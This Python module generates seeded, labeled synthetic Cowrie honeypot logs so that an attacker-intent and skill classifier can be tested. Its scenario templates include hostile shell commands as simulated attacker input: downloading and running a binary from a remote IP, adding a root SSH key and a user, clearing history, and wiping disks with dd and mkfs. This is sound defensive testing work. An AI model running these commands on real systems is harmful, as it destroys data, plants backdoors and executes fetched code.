"""Seeded generator for labeled, Cowrie-format synthetic log corpora.

Ground truth is decided at the template level: every scenario template is
written so the classifier's decision rules land on exactly one
(intent, skill) pair for any instantiation, and the test suite re-checks
that claim against the real classifier. Running the pipeline over a
pristine generated corpus must therefore reproduce the manifest labels
exactly; no post-hoc labeling oracle is involved.

Reproducibility: all randomness is drawn from ``random.Random().random()``
(the Mersenne Twister double stream, the one sequence the stdlib
documents as stable across versions), with per-file generators seeded
from SHA-256 of (corpus seed, file index). Identical plans produce
byte-identical files on any machine.
"""

from __future__ import annotations

import hashlib
import json
import random
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

from .classify import SkillLabel
from .events import CowrieEvent, EventKind, kind_for_eventid

# 2025-01-05T00:00:00Z; each file's sessions start one day apart.
_BASE_EPOCH = datetime(2025, 1, 5, tzinfo=timezone.utc).timestamp()
_FILE_EPOCH_STRIDE = 86400.0

_NOISE_EVENTID = "cowrie.client.version"

MANIFEST_NAME = "manifest.json"


class CorpusPlanError(ValueError):
    """The corpus plan fails validation (bad proportions, counts, or rate)."""


@dataclass(frozen=True, slots=True)
class ScenarioTemplate:
    """One attacker behaviour script with its guaranteed classification.

    ``commands`` may contain ``{ip}`` and ``{file}`` placeholder slots.
    ``gap_range`` bounds the seconds between consecutive commands and is
    chosen per template to sit strictly on one side of the classifier's
    pacing threshold. ``extra_other_events`` inserts that many
    unknown-eventid lines right after the connect event.
    """

    name: str
    commands: tuple[str, ...]
    gap_range: tuple[float, float]
    expected_intent: str | None
    expected_skill: SkillLabel | None
    extra_other_events: int = 0

    def event_cost(self) -> int:
        """Physical lines one instance occupies: connect + noise + commands + closed."""
        return 2 + len(self.commands) + self.extra_other_events


@dataclass(frozen=True)
class CorpusPlan:
    seed: int
    total_events: int
    file_count: int
    template_mix: dict[ScenarioTemplate, float]
    malformed_rate: float = 0.0

    def validate(self) -> None:
        if self.total_events < 0:
            raise CorpusPlanError("total_events must be non-negative")
        if self.file_count < 1:
            raise CorpusPlanError("file_count must be at least 1")
        if self.file_count > 4095:
            raise CorpusPlanError("file_count must be at most 4095")
        if not 0.0 <= self.malformed_rate < 1.0:
            raise CorpusPlanError("malformed_rate must be in [0, 1)")
        if not self.template_mix:
            raise CorpusPlanError("template_mix must not be empty")
        if any(p < 0 for p in self.template_mix.values()):
            raise CorpusPlanError("template proportions must be non-negative")
        drift = abs(sum(self.template_mix.values()) - 1.0)
        if drift > 1e-9:
            raise CorpusPlanError(f"template proportions must sum to 1 (off by {drift:g})")


@dataclass
class GroundTruth:
    """What the pipeline is expected to find in a generated corpus."""

    sessions: dict[str, tuple[str, str]] = field(default_factory=dict)
    valid_lines: int = 0
    malformed_lines: int = 0
    seed: int = 0

    def write(self, path: Path | str) -> None:
        doc = {
            "sessions": {
                sid: {"intent": intent, "skill": skill}
                for sid, (intent, skill) in self.sessions.items()
            },
            "valid_lines": self.valid_lines,
            "malformed_lines": self.malformed_lines,
            "seed": self.seed,
        }
        Path(path).write_text(json.dumps(doc, indent=1) + "\n", encoding="utf-8")

    @classmethod
    def load(cls, path: Path | str) -> "GroundTruth":
        doc = json.loads(Path(path).read_text(encoding="utf-8"))
        return cls(
            sessions={
                sid: (entry["intent"], entry["skill"])
                for sid, entry in doc["sessions"].items()
            },
            valid_lines=doc["valid_lines"],
            malformed_lines=doc["malformed_lines"],
            seed=doc["seed"],
        )


# --- stable randomness helpers (random() doubles only) ---------------------

def _uniform(rng: random.Random, lo: float, hi: float) -> float:
    return lo + (hi - lo) * rng.random()


def _rand_below(rng: random.Random, n: int) -> int:
    # min() guards the (theoretical) case of random() * n rounding up to n.
    return min(int(rng.random() * n), n - 1)


def _rand_int(rng: random.Random, lo: int, hi: int) -> int:
    return lo + _rand_below(rng, hi - lo + 1)


def _sample_indices(rng: random.Random, n: int, k: int) -> list[int]:
    """k distinct indices from range(n), via partial Fisher-Yates; sorted."""
    pool = list(range(n))
    for i in range(k):
        j = i + _rand_below(rng, n - i)
        pool[i], pool[j] = pool[j], pool[i]
    return sorted(pool[:k])


def _file_rng(seed: int, file_index: int) -> random.Random:
    digest = hashlib.sha256(f"{seed}:{file_index}".encode()).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def _random_ip(rng: random.Random) -> str:
    return ".".join(
        str(octet)
        for octet in (
            _rand_int(rng, 1, 223),
            _rand_int(rng, 0, 255),
            _rand_int(rng, 0, 255),
            _rand_int(rng, 1, 254),
        )
    )


def _random_filename(rng: random.Random) -> str:
    # Digits-only stem so no keyword pattern can appear by accident.
    return f"x{_rand_int(rng, 10000, 99999)}.bin"


# --- session instantiation --------------------------------------------------

def instantiate_session(
    template: ScenarioTemplate,
    rng: random.Random,
    session_id: str | None = None,
    src_ip: str | None = None,
    start_epoch: float | None = None,
) -> list[CowrieEvent]:
    """Materialize one session: connect, noise, timed commands, closed.

    All events share one source address; timestamps advance by draws from
    the template's gap range. Defaults for id/ip/start are drawn from the
    stream, so equal (template, seed) pairs yield identical event lists.
    """
    if session_id is None:
        session_id = f"{_rand_int(rng, 0, 0xFFFFFFFF):08x}"
    if src_ip is None:
        src_ip = _random_ip(rng)
    cursor = start_epoch if start_epoch is not None else _BASE_EPOCH

    ip_slot = _random_ip(rng)
    file_slot = _random_filename(rng)

    def at(epoch: float) -> datetime:
        return datetime.fromtimestamp(epoch, tz=timezone.utc)

    def event(eventid: str, epoch: float, command: str | None = None) -> CowrieEvent:
        return CowrieEvent(
            kind=kind_for_eventid(eventid),
            eventid=eventid,
            timestamp=at(epoch),
            session=session_id,
            src_ip=src_ip,
            input=command,
        )

    events = [event(EventKind.SESSION_CONNECT.value, cursor)]
    for _ in range(template.extra_other_events):
        cursor += _uniform(rng, 0.02, 0.2)
        events.append(event(_NOISE_EVENTID, cursor))
    lo, hi = template.gap_range
    for index, pattern in enumerate(template.commands):
        cursor += _uniform(rng, 0.1, 0.8) if index == 0 else _uniform(rng, lo, hi)
        command = pattern.replace("{ip}", ip_slot).replace("{file}", file_slot)
        events.append(event(EventKind.COMMAND_INPUT.value, cursor, command))
    cursor += _uniform(rng, 0.05, 0.4)
    events.append(event(EventKind.SESSION_CLOSED.value, cursor))
    return events


def event_to_json_line(event: CowrieEvent) -> str:
    """Render an event the way Cowrie writes it: one compact JSON object."""
    obj: dict[str, object] = {
        "eventid": event.eventid,
        "timestamp": event.timestamp.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "session": event.session,
        "src_ip": event.src_ip,
    }
    if event.input is not None:
        obj["input"] = event.input
    if event.kind is EventKind.SESSION_CONNECT:
        obj["message"] = f"New connection: {event.src_ip}:22"
    elif event.kind is EventKind.SESSION_CLOSED:
        obj["message"] = "Connection lost"
    return json.dumps(obj, separators=(", ", ": "))


# --- corpus generation --------------------------------------------------------

def _split_counts(total: int, parts: int) -> list[int]:
    base, extra = divmod(total, parts)
    return [base + (1 if k < extra else 0) for k in range(parts)]


def _malformed_quota(line_counts: list[int], rate: float) -> list[int]:
    """Largest-remainder allocation of round(total*rate) across files."""
    total = sum(line_counts)
    target = round(total * rate)
    if target == 0 or total == 0:
        return [0] * len(line_counts)
    shares = [target * count / total for count in line_counts]
    quotas = [int(share) for share in shares]
    shortfall = target - sum(quotas)
    remainders = sorted(
        range(len(line_counts)),
        key=lambda k: (-(shares[k] - quotas[k]), k),
    )
    for k in remainders[:shortfall]:
        quotas[k] += 1
    # A file cannot host more malformed lines than it has lines.
    for k, count in enumerate(line_counts):
        if quotas[k] > count:
            raise CorpusPlanError("malformed_rate too high for file line counts")
    return quotas


def _pick_template(
    rng: random.Random, mix: list[tuple[ScenarioTemplate, float]]
) -> ScenarioTemplate:
    roll = rng.random()
    acc = 0.0
    for template, proportion in mix:
        acc += proportion
        if roll < acc:
            return template
    return mix[-1][0]


def generate_corpus(plan: CorpusPlan, out_dir: Path | str) -> GroundTruth:
    """Write the corpus files plus manifest; returns the ground truth.

    Files are named ``cowrie-<k>.json`` (zero-padded so lexicographic and
    numeric order agree). Exactly ``plan.total_events`` physical lines are
    written; ``round(total_events * malformed_rate)`` of them are damaged
    by truncating the line at a seeded offset, which always yields invalid
    JSON, so the manifest's valid/malformed split is exact by construction.
    """
    plan.validate()
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)

    truth = GroundTruth(seed=plan.seed)
    mix = list(plan.template_mix.items())
    width = max(2, len(str(plan.file_count - 1)))
    line_budgets = _split_counts(plan.total_events, plan.file_count)

    all_lines: list[list[str]] = []
    for file_index, budget in enumerate(line_budgets):
        rng = _file_rng(plan.seed, file_index)
        cursor = _BASE_EPOCH + file_index * _FILE_EPOCH_STRIDE
        lines: list[str] = []
        session_counter = 0

        def next_session_id() -> str:
            nonlocal session_counter
            session_counter += 1
            return f"{file_index:03x}{session_counter:05x}"

        def emit(events: list[CowrieEvent]) -> None:
            lines.extend(event_to_json_line(ev) for ev in events)

        remaining = budget
        while remaining > 0:
            template = _pick_template(rng, mix)
            cost = template.event_cost()
            if cost > remaining:
                break
            session_id = next_session_id()
            events = instantiate_session(
                template, rng, session_id=session_id, src_ip=_random_ip(rng), start_epoch=cursor
            )
            emit(events)
            if template.commands:
                truth.sessions[session_id] = (
                    template.expected_intent or "",
                    (template.expected_skill or SkillLabel.LOW).value,
                )
            cursor = events[-1].timestamp.timestamp() + _uniform(rng, 0.2, 2.0)
            remaining -= cost

        # Exact-total filler: command-free visits (2 lines), then at most one
        # lone connect event.
        while remaining >= 2:
            events = instantiate_session(
                _IDLE_TEMPLATE, rng, session_id=next_session_id(),
                src_ip=_random_ip(rng), start_epoch=cursor,
            )
            emit(events)
            cursor = events[-1].timestamp.timestamp() + _uniform(rng, 0.2, 2.0)
            remaining -= 2
        if remaining == 1:
            stub = instantiate_session(
                _IDLE_TEMPLATE, rng, session_id=next_session_id(),
                src_ip=_random_ip(rng), start_epoch=cursor,
            )[0]
            lines.append(event_to_json_line(stub))
            remaining = 0
        all_lines.append(lines)

    quotas = _malformed_quota([len(lines) for lines in all_lines], plan.malformed_rate)
    malformed_total = 0
    for file_index, (lines, quota) in enumerate(zip(all_lines, quotas)):
        if quota:
            rng = _file_rng(plan.seed, 10_000_019 + file_index)
            for line_index in _sample_indices(rng, len(lines), quota):
                line = lines[line_index]
                lines[line_index] = line[: _rand_below(rng, len(line))]
            malformed_total += quota
        name = f"cowrie-{file_index:0{width}d}.json"
        path = out_dir / name
        path.write_text("\n".join(lines) + "\n" if lines else "", encoding="utf-8")

    truth.valid_lines = plan.total_events - malformed_total
    truth.malformed_lines = malformed_total
    truth.write(out_dir / MANIFEST_NAME)
    return truth


# --- default scenario catalogue -----------------------------------------------

_FAST = (0.05, 0.5)
_SLOW = (2.0, 4.0)

_IDLE_TEMPLATE = ScenarioTemplate(
    name="idle_visit",
    commands=(),
    gap_range=_FAST,
    expected_intent=None,
    expected_skill=None,
)

DEFAULT_TEMPLATES: dict[str, ScenarioTemplate] = {
    t.name: t
    for t in (
        ScenarioTemplate(
            name="probe_single",
            commands=("uname -a",),
            gap_range=_FAST,
            expected_intent="ShallowProbe",
            expected_skill=SkillLabel.LOW,
            extra_other_events=1,
        ),
        ScenarioTemplate(
            name="probe_pair",
            commands=("ls -la /tmp", "cat /proc/cpuinfo"),
            gap_range=_FAST,
            expected_intent="ShallowProbe",
            expected_skill=SkillLabel.LOW,
        ),
        ScenarioTemplate(
            name="deploy_chain",
            commands=("wget http://{ip}/{file}", "chmod +x {file}", "./{file}"),
            gap_range=_FAST,
            expected_intent="MalwareDeployment",
            expected_skill=SkillLabel.MEDIUM,
        ),
        ScenarioTemplate(
            name="deploy_pair",
            commands=("curl -O http://{ip}/{file}", "./{file}"),
            gap_range=_FAST,
            expected_intent="MalwareDeployment",
            expected_skill=SkillLabel.MEDIUM,
        ),
        ScenarioTemplate(
            name="recon_burst",
            commands=("uname -a", "whoami", "cat /proc/cpuinfo", "nproc"),
            gap_range=_FAST,
            expected_intent="Reconnaissance",
            expected_skill=SkillLabel.MEDIUM,
        ),
        ScenarioTemplate(
            name="manual_recon",
            commands=("uname -a", "whoami", "ls /var/tmp", "ps aux", "ifconfig"),
            gap_range=_SLOW,
            expected_intent="Reconnaissance",
            expected_skill=SkillLabel.HIGH,
        ),
        ScenarioTemplate(
            name="persist_keys",
            commands=(
                "crontab -l",
                "echo ssh-rsa AAAAB3NzaC1yc2E >> /root/.ssh/authorized_keys",
                "useradd -m support",
            ),
            gap_range=_FAST,
            expected_intent="Persistence",
            expected_skill=SkillLabel.MEDIUM,
        ),
        ScenarioTemplate(
            name="evasion_wipe",
            commands=("history -c", "unset HISTFILE", "pkill -f agetty"),
            gap_range=_FAST,
            expected_intent="DefenseEvasion",
            expected_skill=SkillLabel.HIGH,
        ),
        ScenarioTemplate(
            name="wiper",
            commands=(
                "rm -rf /var/log",
                "dd if=/dev/urandom of=/dev/sda",
                "mkfs.ext4 /dev/sda1",
            ),
            gap_range=_FAST,
            expected_intent="Destruction",
            expected_skill=SkillLabel.MEDIUM,
        ),
        ScenarioTemplate(
            name="opaque_burst",
            commands=("echo ready", "free -m", "date"),
            gap_range=_FAST,
            expected_intent="Unknown",
            expected_skill=SkillLabel.MEDIUM,
        ),
    )
}

DEFAULT_MIX: dict[str, float] = {
    "probe_single": 0.40,
    "probe_pair": 0.22,
    "deploy_chain": 0.12,
    "deploy_pair": 0.06,
    "recon_burst": 0.08,
    "manual_recon": 0.02,
    "persist_keys": 0.03,
    "evasion_wipe": 0.02,
    "wiper": 0.01,
    "opaque_burst": 0.04,
}


def default_plan(
    seed: int,
    total_events: int,
    file_count: int,
    malformed_rate: float = 0.0,
) -> CorpusPlan:
    """A plan over the default scenario catalogue and mix."""
    return CorpusPlan(
        seed=seed,
        total_events=total_events,
        file_count=file_count,
        template_mix={
            DEFAULT_TEMPLATES[name]: proportion for name, proportion in DEFAULT_MIX.items()
        },
        malformed_rate=malformed_rate,
    )
